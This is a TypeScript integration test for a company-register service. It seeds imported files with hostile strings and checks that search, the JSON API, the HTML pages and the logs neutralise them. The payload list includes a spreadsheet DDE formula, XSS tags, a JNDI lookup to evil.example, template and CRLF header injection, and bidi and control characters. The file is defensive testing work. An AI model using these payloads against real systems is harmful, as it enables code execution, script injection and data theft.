import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import type { Encoding } from '../../src/core/source-files.ts';
import { importFiles } from '../../src/importing/import.ts';
import { registers } from '../../src/registers/index.ts';
import type { SyntheticCsv, SyntheticFile } from '../../synthetic/file.ts';
import { generateFile } from '../../synthetic/generators.ts';
import { writeSynthetic } from '../../synthetic/writers/write.ts';
import { usualEngines } from '../harness/databases.ts';
import { runs } from '../harness/depth.ts';
import { untilSearchServes } from '../harness/entities.ts';
import { startService } from '../harness/service.ts';
import { pageOpener } from './pages.ts';

/** What the words in every column of every register are replaced with, in turn. */
const HOSTILE = [
  `=cmd|' /C calc'!A0`,
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '\u202eDTL TFEL\u202c \u2066GHI',
  '\u001b[2J\u001b[31m\u009b31mRED',
  'A\u0000B',
  'LINE\r\nSet-Cookie: a=b\r\n\u2028LINE',
  `$${'{jndi:ldap://evil.example/a}'} {{7*7}} <%= 7*7 %>`,
  `Z\u0301${'\u0301\u0335\u0489'.repeat(40)}`,
  'ZERO\u200bWIDTH\u00ad\u2060\ufeffJOINED',
  'javascript:alert(1)//http://a.example',
  '"><b onmouseover=alert(1)>',
  '\ufffe\uffff \u{1f4a9}\u{e0041}',
  'N'.repeat(runs(5_000, 100_000)),
];
/** An import accepts up to five rows with values that cannot be read. */
const HOSTILE_ROWS = runs(2, 5);
/** Of each register. */
const ROWS = runs(10, 40);
/** A sheet may have a title above its header. */
const HEADER_ROWS = 3;
/** Numbers, dates and codes stay, so that rows are still rows of the register. */
const WORD = /\p{L}{3}/u;

/** Calls itself for the values inside a tree. */
function poison(value: unknown, next: () => string): unknown {
  if (typeof value === 'string') return WORD.test(value) ? `${value} ${next()}` : value;
  if (Array.isArray(value)) return value.map((item) => poison(item, next));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([key, inner]) => [key, poison(inner, next)]));
}

function* poisonFirst(rows: Iterable<unknown>, next: () => string): Generator<unknown> {
  let count = 0;
  for (const row of rows) yield count++ < HOSTILE_ROWS ? poison(row, next) : row;
}

function poisonCsv(csv: SyntheticCsv, seed: number): SyntheticCsv {
  const { dialect } = csv;
  const next = rotate(seed, (text) => {
    const encodable = toEncodable(text, dialect.encoding);
    return dialect.quote === null
      ? encodable.replaceAll(dialect.delimiter, '').replace(/[\r\n\ufeff]/g, ' ')
      : encodable;
  });
  return { ...csv, rows: poisonFirst(csv.rows, next) as Iterable<string[]> };
}

function toEncodable(text: string, encoding: Encoding): string {
  return encoding === 'utf-8' ? text : text.replace(/[^\x20-\x7e]/g, '?');
}

/** Starts at another text for every register, so that every text gets into many kinds of columns. */
function rotate(seed: number, write: (text: string) => string = (text) => text): () => string {
  let at = seed;
  return () => write(HOSTILE[at++ % HOSTILE.length] ?? '');
}

function poisonFile(file: SyntheticFile, seed: number): SyntheticFile {
  const { content } = file;
  const encoding = 'encoding' in content ? content.encoding : 'utf-8';
  const next = rotate(seed, (text) => toEncodable(text, encoding));
  const change = (): SyntheticFile['content'] => {
    if (content.type === 'csv') return poisonCsv(content, seed);
    if (content.type === 'archive')
      return { ...content, files: content.files.map((one) => ({ ...one, content: poisonCsv(one.content, seed) })) };
    if (content.type === 'xlsx') return { ...content, sheets: content.sheets.map(poisonSheet) };
    return { ...content, values: poisonFirst(content.values, next) } as typeof content;
  };
  const poisonSheet = (sheet: { readonly name: string; readonly rows: Iterable<unknown> }, index: number) => {
    if (index > 0) return sheet as never;
    const rows = [...sheet.rows];
    return { ...sheet, rows: [...rows.slice(0, HEADER_ROWS), ...poisonFirst(rows.slice(HEADER_ROWS), next)] } as never;
  };
  return { ...file, content: change() };
}

for (const engine of usualEngines) {
  describe(`hostile text in every column on ${engine}`, () => {
    test('of every register is found by search, sent as JSON, and shown as text', { timeout: 1_200_000 }, async () => {
      await using service = await startService(engine);
      const { registryDb } = service.services;
      for (const [seed, register] of registers.entries()) {
        const folder = mkdtempSync(join(service.database.dataDir, 'in-'));
        const path = await writeSynthetic(folder, poisonFile(generateFile(register, ROWS, 1), seed));
        await importFiles(registryDb, service.clock, { register, registers, paths: [path] });
      }
      await untilSearchServes(service);
      const session = await service.signIn();
      const open = pageOpener(service);
      for (const { id: register } of registers) {
        const stored = await registryDb.all<{ id: string; name: string }>(
          `SELECT id, canonical_name AS name FROM entities WHERE register = $1 AND status <> 'delisted'
            ORDER BY place LIMIT ${HOSTILE_ROWS}`,
          [register],
        );
        assert.equal(stored.length, HOSTILE_ROWS, `${register} lost hostile companies`);
        service.clock.advance(60_000);
        for (const { id, name } of stored) {
          assert.ok(name.length <= 4_000, `${register} has a name of ${name.length} characters`);
          const q = [...name].slice(0, 60).join('').trim();
          const found = await service.client.get(`/api/v1/entities?${new URLSearchParams({ q, pageSize: '100' })}`);
          assert.ok(
            found.body.data.some((one: { id: string }) => one.id === id),
            `${register}: search does not find ${JSON.stringify(q)}`,
          );
          const record = await service.client.get(`/api/v1/entities/${id}`);
          assert.equal(record.status, 200);
          assert.equal(record.headers.get('set-cookie'), null);
          const { status, headers, html } = await open(`/entities/${id}`, session);
          assert.equal(status, 200, `${register}: the page of ${id} failed`);
          assert.doesNotMatch(headers.get('set-cookie') ?? '', /a=b/);
          assertHarmless(html, register);
        }
        const { html } = await open(`/explore?register=${register}`, session);
        assertHarmless(html, register);
      }
      for (const line of service.logLines) {
        assert.doesNotMatch(line.slice(0, -1), /\p{Cc}/u);
        JSON.parse(line);
        assert.doesNotMatch(line, /calc|onerror|jndi/, 'a name is in the log');
      }
    });
  });
}

function assertHarmless(html: string, register: string): void {
  // A page can have megabytes, so it is not part of the message.
  const check = (pattern: RegExp, what: string, text = html) => {
    const at = text.search(pattern);
    assert.ok(at === -1, `${register}: the page has ${what}: ${JSON.stringify(text.slice(at - 50, at + 50))}`);
  };
  // The value of a form field is sent back exactly as it is, whatever it contains.
  const shown = html.replace(/<[^>]*>/g, (tag) => tag.replace(/"[^"]*"/g, '""'));
  check(/<script(?! type="module" src="\/assets\/)/, 'a script');
  check(/<(img src=x|b onmouseover)/, 'an element');
  check(/<[^>]*\son\w+=/, 'an event handler', shown);
  check(/(href|src|action)="\s*javascript:/i, 'a link with code');
  check(/[\u202a-\u202e\u2066-\u2069]/u, 'a character that changes the reading order', shown);
  check(/(?![\n\t\r])\p{Cc}/u, 'a control character', shown);
}
